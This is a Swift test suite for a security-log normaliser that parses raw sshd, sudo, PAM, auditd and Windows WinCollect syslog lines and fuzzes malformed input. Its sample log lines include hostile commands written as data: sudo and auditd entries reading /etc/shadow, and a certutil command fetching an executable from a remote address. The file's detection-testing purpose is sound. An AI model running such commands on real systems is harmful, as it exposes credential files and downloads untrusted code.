@testable import Ingestion
import LEEF
import Testing
import VigilCore

/// The raw payloads QRadar's forwarding destinations send besides LEEF, read with the default mapping.
@Suite struct RawSyslogNormalizerTests {
    /// 2026-10-01T12:00:00Z: the reference for RFC 3164 years.
    let receivedAt: EpochMillis = 1_790_856_000_000

    func event(_ line: String) throws -> Event {
        let out = RawSyslogNormalizer(mapping: try Fixtures.mapping()).normalize(line, receivedAt: receivedAt)
        #expect(out.rejection == nil, "\(out.rejection ?? "")")
        return try #require(out.event)
    }

    func rejection(_ line: String) throws -> String? {
        RawSyslogNormalizer(mapping: try Fixtures.mapping()).normalize(line, receivedAt: receivedAt).rejection
    }

    @Test func sshdFailedPasswordForAnInvalidUserIsAFailedLoginFromItsAddress() throws {
        let e = try event("<38>Oct  1 11:07:53 bastion1 sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2")
        #expect(e.kind == .authentication)
        #expect(e.outcome == .failure)
        #expect(e.user == "webmaster")
        #expect(e.sourceIP == "173.234.31.186" && e.sourcePort == 38_926)
        #expect(e.sourceHost == "bastion1")
        #expect(e.logSource == "bastion1")
        #expect(e.category == "Host Login Failed")
        #expect(e.failureReason == "unknown user")
        #expect(e.authPackage == "password")
        #expect(e.time == 1_790_852_873_000)
        #expect(e.id.hasPrefix("raw:"))
    }

    @Test func sshdAcceptedAndRepeatedLines() throws {
        let ok = try event("Oct  1 11:08:01 bastion1 sshd[24210]: Accepted publickey for alice from 10.1.2.3 port 50122 ssh2: RSA SHA256:abc")
        #expect(ok.kind == .authentication && ok.outcome == .success && ok.user == "alice" && ok.authPackage == "publickey")
        let repeated = try event("<38>Oct  1 11:09:00 bastion1 sshd[24300]: message repeated 5 times: [ Failed password for root from 183.62.140.253 port 5489 ssh2]")
        #expect(repeated.kind == .authentication && repeated.outcome == .failure && repeated.user == "root")
        #expect(repeated.properties["eventcount"] == "5")
        // The PAM echo of the same attempt and "Invalid user" are kept, but are not a second login attempt.
        let pam = try event("<38>Oct  1 11:07:53 bastion1 sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186  user=root")
        #expect(pam.kind == .other && pam.sourceIP == "173.234.31.186" && pam.user == "root")
        let invalid = try event("<38>Oct  1 11:07:52 bastion1 sshd[24200]: Invalid user webmaster from 173.234.31.186 port 38926")
        #expect(invalid.kind == .other && invalid.user == "webmaster" && invalid.sourceIP == "173.234.31.186")
        // Any other sshd line is kept as an sshd event with the address it names.
        let closed = try event("<38>Oct  1 11:07:54 bastion1 sshd[24200]: Connection closed by 173.234.31.186 port 38926 [preauth]")
        #expect(closed.kind == .other && closed.sourceIP == "173.234.31.186" && closed.name == "sshd message")
    }

    @Test func sudoCommandsAreProcessEventsOfTheInvokingUser() throws {
        let e = try event("<85>Oct  1 11:10:00 db2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c 'cat /etc/shadow; id'")
        #expect(e.kind == .process)
        #expect(e.user == "alice")
        #expect(e.command == "/bin/sh -c 'cat /etc/shadow; id'")
        #expect(e.properties["Target Username"] == "root")
        #expect(e.category == "Privilege Escalation Succeeded")
        let denied = try event("<85>Oct  1 11:10:05 db2 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash")
        #expect(denied.outcome == .failure && denied.user == "bob" && denied.failureReason == "user NOT in sudoers")
        #expect(denied.category == "Privilege Escalation Failed")
    }

    @Test func suAndPamLines() throws {
        let opened = try event("<86>Oct  1 11:11:00 db2 su[3000]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)")
        #expect(opened.user == "alice" && opened.properties["Target Username"] == "root" && opened.category == "Privilege Escalation Succeeded")
        let failed = try event("<86>Oct  1 11:11:05 db2 su[3001]: pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=  user=root")
        #expect(failed.user == "bob" && failed.properties["Target Username"] == "root" && failed.outcome == .failure)
        let legacy = try event("<86>Oct  1 11:11:09 db2 su: FAILED SU (to root) carol on pts/2")
        #expect(legacy.user == "carol" && legacy.outcome == .failure)
        let ftp = try event("<86>Oct  1 11:12:00 ftp1 vsftpd[900]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=dave rhost=198.51.100.7")
        #expect(ftp.kind == .authentication && ftp.outcome == .failure && ftp.sourceIP == "198.51.100.7" && ftp.user == "dave")
    }

    @Test func olderPamIdentsAreRead() throws {
        let e = try event("Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ")
        #expect(e.kind == .authentication && e.outcome == .failure && e.sourceIP == "218.188.2.4")
        let su = try event("Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)")
        #expect(su.user == "cyrus" && su.kind == .other)
    }

    @Test func auditdRecords() throws {
        let exec = try event(#"<14>Oct  1 11:13:00 web3 audispd: type=EXECVE msg=audit(1790853180.243:24287): argc=3 a0="cat" a1=2F6574632F736861646F77 a2="-n""#)
        #expect(exec.kind == .process)
        #expect(exec.command == "cat /etc/shadow -n")
        #expect(exec.time == 1_790_853_180_243)
        let login = try event(#"type=USER_LOGIN msg=audit(1790853190.159:24270): pid=3280 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'"#)
        #expect(login.kind == .authentication && login.outcome == .failure && login.user == "root" && login.sourceIP == "203.0.113.9")
        let cmd = try event(#"type=USER_CMD msg=audit(1790853200.000:24290): pid=4000 uid=1000 auid=1000 ses=3 msg='cwd="/home/alice" cmd=636174202F6574632F736861646F77 terminal=pts/0 res=success'"#)
        #expect(cmd.user == "uid:1000" && cmd.command == "cat /etc/shadow" && cmd.kind == .process)
    }

    @Test func winCollectLogonsProcessesAndTheOneSpaceVariant() throws {
        let failed = try event("<13>Oct  1 11:14:00 10.0.0.5 AgentDevice=WindowsLog\tAgentLogFile=Security\tPluginVersion=7.2.9.72\tSource=Microsoft-Windows-Security-Auditing\tComputer=SRV-FILE1.corp.example\tOriginatingComputer=10.0.0.5\tUser=\tDomain=\tEventID=4625\tEventIDCode=4625\tEventType=16\tEventCategory=12544\tRecordNumber=1\tTimeGenerated=1790853240\tTimeWritten=1790853240\tLevel=Log Always\tKeywords=Audit Failure\tTask=SE_ADT_LOGON_LOGON\tOpcode=Info\tMessage=An account failed to log on.  Subject:  Security ID:  NULL SID  Account Name:  -  Account Domain:  -  Logon ID:  0x0  Logon Type:   3  Account For Which Logon Failed:  Security ID:  NULL SID  Account Name:  bob  Account Domain:  CORP  Failure Information:  Failure Reason:  Unknown user name or bad password.  Status:  0xC000006D  Sub Status:  0xC000006A  Process Information:  Caller Process ID:  0x0  Caller Process Name:  -  Network Information:  Workstation Name:  WS-0042  Source Network Address:  10.20.30.40  Source Port:  51000  Detailed Authentication Information:  Logon Process:  NtLmSsp   Authentication Package:  NTLM  Transited Services:  -  Package Name (NTLM only):  -  Key Length:  0")
        #expect(failed.kind == .authentication)
        #expect(failed.eventCode == "4625")
        #expect(failed.outcome == .failure)
        #expect(failed.user == "bob")
        #expect(failed.sourceIP == "10.20.30.40" && failed.sourcePort == 51_000)
        #expect(failed.sourceHost == "WS-0042")
        #expect(failed.destinationHost == "SRV-FILE1")
        #expect(failed.logonType == 3)
        #expect(failed.authPackage == "NTLM")
        #expect(failed.failureReason == "Unknown user name or bad password.")
        #expect(failed.time == 1_790_853_240_000)

        let process = try event("<13>Oct  1 11:15:00 WS-0042 AgentDevice=WindowsLog\tAgentLogFile=Security\tSource=Microsoft-Windows-Security-Auditing\tComputer=WS-0042.corp.example\tEventID=4688\tTimeGenerated=1790853300\tKeywords=Audit Success\tMessage=A new process has been created.  Creator Subject:  Security ID:  CORP\\alice  Account Name:  alice  Account Domain:  CORP  Logon ID:  0x3E7  Target Subject:  Security ID:  NULL SID  Account Name:  -  Process Information:  New Process ID:  0x1a2c  New Process Name:  C:\\Windows\\System32\\certutil.exe  Token Elevation Type:  %%1936  Creator Process ID:  0x2b0  Creator Process Name:  C:\\Windows\\System32\\cmd.exe  Process Command Line:  certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe")
        #expect(process.kind == .process)
        #expect(process.user == "alice")
        #expect(process.command == "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe")
        #expect(process.properties["Parent Process Path"] == "C:\\Windows\\System32\\cmd.exe")
        #expect(process.sourceHost == "WS-0042")

        // Older agents separate labels by one space.
        let ntlm = try event("Jan 1 11:11:11 192.168.1.1 AgentDevice=WindowsLog\tAgentLogFile=Security\tPluginVersion=1.0.14\tSource=Microsoft-Windows-Security-Auditing\tComputer=main_dc\tUser= \tDomain= \tEventID=4776\tEventIDCode=4776\tEventType=8\tEventCategory=14336\tRecordNumber=1089190650\tTimeGenerated=1790853360\tTimeWritten=1790853360\tMessage=The computer attempted to validate the credentials for an account.  Authentication Package: MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 Logon Account: admin Source Workstation: main_dc Error Code: 0x0")
        #expect(ntlm.kind == .authentication && ntlm.user == "admin" && ntlm.outcome == .success)
        #expect(ntlm.authPackage == "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0")
    }

    @Test func jsonOfNormalizedFieldsIsARow() throws {
        let e = try event(#"<14>Oct  1 11:16:00 qradar-console {"Event ID":"4624","username":"erin","src":"10.9.8.7","Logon Type":"10","devicetime":1790853360000,"Source Host":"WS-7"}"#)
        #expect(e.kind == .authentication && e.user == "erin" && e.sourceIP == "10.9.8.7" && e.logonType == 10 && e.time == 1_790_853_360_000)
    }

    @Test func unrecognisedAndMalformedLinesAreRejectedWithAReason() throws {
        #expect(try rejection("<14>Oct  1 11:17:00 host1 kernel: [123.456] eth0: link up")?.contains("unrecognised raw payload from 'kernel'") == true)
        #expect(try rejection("just some text")?.contains("unrecognised raw payload") == true)
        #expect(try rejection("<999>Oct  1 11:17:00 host1 sshd[1]: Failed password for root from 1.2.3.4 port 1 ssh2")?.contains("not a readable syslog line") == true)
        #expect(try rejection("<14>Oct  1 11:17:00 host1 {\"truncated\": ") != nil)
        #expect(try rejection("<14>Oct  1 11:17:00 host1 type=EXECVE msg=audit(17908") != nil)
        #expect(try rejection("<13>Oct  1 11:14:00 h AgentDevice=WindowsLog\tAgentLogFile=Security\tComputer=X") != nil, "no EventID")
    }

    @Test("every prefix of real lines is read or rejected, never a crash", arguments: [
        "<38>Oct  1 11:07:53 bastion1 sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2",
        "<85>Oct  1 11:10:00 db2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
        #"type=USER_LOGIN msg=audit(1790853190.159:24270): pid=3280 uid=0 msg='op=login acct="root" addr=203.0.113.9 res=failed'"#,
        "<13>Oct  1 11:14:00 10.0.0.5 AgentDevice=WindowsLog\tEventID=4625\tMessage=An account failed to log on.  Subject:  Account Name:  bob",
    ])
    func prefixesNeverCrash(_ line: String) throws {
        let n = RawSyslogNormalizer(mapping: try Fixtures.mapping())
        var accepted = 0
        for end in line.indices {
            let out = n.normalize(String(line[..<end]), receivedAt: receivedAt)
            #expect((out.event == nil) != (out.rejection == nil))
            if out.event != nil { accepted += 1 }
        }
        #expect(accepted > 0)
    }
}

/// Mutated real lines through the raw reader: never a trap, and every line either an event or a rejection with a
/// reason (seeded, so a failure replays).
@Suite struct RawPayloadFuzzTests {
    static let seeds = [
        "<38>Oct  1 11:07:53 bastion1 sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2",
        "<38>Oct  1 11:09:00 bastion1 sshd[24300]: message repeated 5 times: [ Failed password for root from 183.62.140.253 port 5489 ssh2]",
        "<85>Oct  1 11:10:00 db2 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c 'id; ls'",
        "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ",
        #"type=USER_LOGIN msg=audit(1790853190.159:24270): pid=3280 uid=0 msg='op=login acct="root" addr=203.0.113.9 res=failed'"#,
        #"type=EXECVE msg=audit(1790853180.243:24287): argc=3 a0="cat" a1=2F6574632F736861646F77 a2="-n""#,
        "<13>Oct  1 11:14:00 10.0.0.5 AgentDevice=WindowsLog\tAgentLogFile=Security\tComputer=SRV.corp\tEventID=4625\tTimeGenerated=1790853240\tMessage=An account failed to log on.  Subject:  Account Name:  -  Account For Which Logon Failed:  Account Name:  bob  Network Information:  Source Network Address:  10.2.3.4",
        #"<14>Oct  1 11:16:00 console {"Event ID":"4624","username":"erin","src":"10.9.8.7"}"#,
    ]
    static let structural: [UInt8] = Array("<>:[]()=;'\"{} \t|/\\0x1AFaudit".utf8) + [0x00, 0xC3, 0xA9, 0xFF, 0x0A, 0x0D]

    @Test func mutatedRawLinesNeverTrap() throws {
        let normalizer = ForwardedLineNormalizer(mapping: try Fixtures.mapping())
        var state: UInt64 = 0x5EED
        func next(_ n: Int) -> Int {
            state = state &* 6364136223846793005 &+ 1442695040888963407
            return Int((state >> 33) % UInt64(max(1, n)))
        }
        var accepted = 0
        for _ in 0..<20_000 {
            var bytes = Array(Self.seeds[next(Self.seeds.count)].utf8)
            for _ in 0..<(1 + next(4)) {
                guard !bytes.isEmpty else { break }
                let at = next(bytes.count)
                switch next(3) {
                case 0: bytes[at] = next(2) == 0 ? Self.structural[next(Self.structural.count)] : UInt8(next(256))
                case 1: bytes.remove(at: at)
                default: bytes.insert(Self.structural[next(Self.structural.count)], at: at)
                }
            }
            let out = normalizer.normalize(bytes: bytes, receivedAt: 1_790_856_000_000)
            #expect((out.event == nil) != (out.rejection == nil))
            if out.event != nil { accepted += 1 }
        }
        #expect(accepted > 1_000, "most single mutations of a real line still read")
    }
}
